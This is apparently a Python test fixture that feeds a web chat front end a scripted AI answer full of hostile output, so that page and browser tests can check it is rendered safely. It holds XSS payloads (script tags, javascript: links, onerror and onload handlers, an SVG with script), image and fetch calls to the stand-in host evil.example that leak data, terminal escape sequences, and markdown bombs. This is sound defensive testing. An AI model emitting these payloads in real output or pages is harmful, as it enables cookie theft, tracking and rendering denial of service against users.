"""A scripted answer with every hostile kind of model output: raw HTML and scripts in the
text, `javascript:` links, foreign images and links, markdown in file names, an SVG with
a script, an HTML page as an output, ANSI escapes, a 5 MB stdout, and markdown bombs.
The page tests and the browser test both send it."""

from __future__ import annotations

from fake_anthropic import CodeStep, OutFile, Text, Turn

FOREIGN_HOST = "evil.example"
CANARY = "hostile-canary"  # a word each hostile piece carries, to find it on the page

HTML_TEXT = (
    f"<script>window.{CANARY.replace('-', '_')}=1</script>"
    f'<img src="https://{FOREIGN_HOST}/pixel.png?leak=1" onerror="alert(1)">'
    f'<iframe src="https://{FOREIGN_HOST}/frame"></iframe>'
    f'<a href="javascript:alert(1)" onclick="alert(2)">{CANARY} html link</a>'
    f"<style>body{{background:url(https://{FOREIGN_HOST}/bg.png)}}</style>"
)
MARKDOWN_TEXT = (
    f"[{CANARY} click me](javascript:alert(document.cookie)) and "
    f"![{CANARY} tracker](https://{FOREIGN_HOST}/track.png?c=secret) and "
    f"[{CANARY} foreign](https://{FOREIGN_HOST}/phish) and "
    f"<https://{FOREIGN_HOST}/auto> and "
    f"![{CANARY} data](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)"
)
# Deep nesting and long link chains that some renderers take quadratic time over.
MARKDOWN_BOMB = ">" * 300 + " deep\n\n" + "[" * 2000 + "x" + "](y)" * 2000 + "\n\n" + "*a" * 5000

SVG = (
    b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
    b"<script>alert(2)</script>"
    b'<image href="https://evil.example/svg.png"/></svg>'
)
HTML_PAGE = (
    b"<html><body><script>fetch('https://evil.example/x')</script>"
    b'<img src="https://evil.example/html.png"></body></html>'
)
ANSI = (
    "\x1b[31mred\x1b[0m \x1b]8;;https://evil.example\x1b\\osc link\x1b]8;;\x1b\\ \x1b[2J cleared\n"
)
BIG_STDOUT_LINE = "x" * 99 + "\n"
BIG_STDOUT = BIG_STDOUT_LINE * (5 * 1024 * 1024 // len(BIG_STDOUT_LINE))  # 5 MB

MARKDOWN_NAME = "**bold** :red[RED] [x](javascript_alert) `code`.csv"
SVG_NAME = "chart.svg"
HTML_NAME = "report.html"


def hostile_turn(big_stdout: bool = True, bomb: str = MARKDOWN_BOMB) -> Turn:
    files = (
        OutFile(SVG_NAME, SVG, "image/svg+xml"),
        OutFile(HTML_NAME, HTML_PAGE, "text/html"),
        OutFile(MARKDOWN_NAME, b"a,b\n1,2\n", "text/csv"),
    )
    step = CodeStep(
        "bash",
        {"command": f"printf '{CANARY}'; cat big.txt"},
        stdout=ANSI + (BIG_STDOUT if big_stdout else ""),
        stderr=f"<script>alert('{CANARY}')</script>\n",
        files=files,
    )
    return Turn(
        (
            Text(HTML_TEXT, chunk_size=200),
            Text(MARKDOWN_TEXT, chunk_size=200),
            step,
            Text(bomb, chunk_size=4000),
            Text("Done."),
        )
    )
